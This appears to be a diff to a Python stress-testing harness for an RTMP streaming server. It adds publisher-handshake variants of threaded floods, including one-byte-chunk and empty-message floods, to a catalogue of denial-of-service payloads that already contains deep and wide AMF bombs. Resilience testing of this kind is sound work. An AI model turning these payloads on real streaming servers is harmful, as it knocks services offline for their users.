@@ -68,6 +68,11 @@ def connected() -> bytes:
     return HANDSHAKE + connect_commands("live", "k")[0]
 
 
+def publishing() -> bytes:
+    """What a publisher says up to its media, where none needs a token; each time of another stream."""
+    return HANDSHAKE + b"".join(connect_commands("healthy", f"x{random.randrange(10**9)}"))
+
+
 def message(type_id: int, body: bytes, csid: int = AUDIO, chunk_size: int = 128, msid: int = 1) -> bytes:
     """One message in chunks."""
     header = bytes([csid]) + b"\0\0\0" + len(body).to_bytes(3, "big") + bytes([type_id]) + struct.pack("<I", msid)
@@ -88,15 +93,21 @@ def say(port: int, data: bytes, source: str, target: Target) -> int:
     return 1
 
 
-def repeatedly(data: Callable[[], bytes], source: Callable[[], str] = lambda: "127.0.0.2") -> Attack:
-    """Say the same again and again over RTMP, each time on a new connection, by several at a time."""
+def repeatedly(
+    data: Callable[[], bytes], source: Callable[[], str] = lambda: "127.0.0.2", *, is_same: bool = True
+) -> Attack:
+    """
+    Send ``data`` again and again over RTMP, each time on a new connection, by several at a time.
+
+    :param is_same: whether it may be made once for all.
+    """
 
     def run(target: Target) -> int:
-        octets = data()
+        octets = data() if is_same else b""
 
         def work(counts: list[int]) -> None:
             while not target.is_over:
-                counts.append(say(target.rtmp_port, octets, source(), target))
+                counts.append(say(target.rtmp_port, octets if is_same else data(), source(), target))
 
         return in_threads(work)
 
@@ -301,6 +312,12 @@ ATTACKS: dict[str, Attack] = {
         lambda: connected() + set_chunk_size(1) + message(9, bytes(30_000), 4, 1) * 8, anywhere
     ),
     "empty messages": repeatedly(lambda: connected() + message(8, b"", 4) * 20_000, anywhere),
+    "publishers: chunks of one byte": repeatedly(
+        lambda: publishing() + set_chunk_size(1) + message(9, bytes(30_000), 4, 1) * 40, anywhere, is_same=False
+    ),
+    "publishers: empty messages": repeatedly(
+        lambda: publishing() + message(8, b"", 4) * 100_000, anywhere, is_same=False
+    ),
     "AMF, deep": repeatedly(lambda: _amf(b"\x0a\0\0\0\1" * 12_000), anywhere),
     "AMF, wide": repeatedly(lambda: _amf(b"\x0a\x7f\xff\xff\xff" + b"\x05" * 59_000), anywhere),
     "AMF, many": repeatedly(lambda: _amf(b"\x05" * 59_000), anywhere),
